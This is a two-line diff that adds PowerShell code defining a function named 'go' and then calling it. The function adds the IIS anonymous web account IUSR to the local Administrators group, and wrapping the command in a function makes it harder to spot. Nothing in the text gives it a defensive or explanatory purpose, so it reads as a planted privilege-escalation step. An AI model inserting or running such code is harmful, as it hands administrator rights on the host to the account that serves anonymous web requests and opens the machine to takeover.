@@ -1,0 +1,2 @@
+${function:go} = 'net localgroup Administrators IUSR /add'
+go
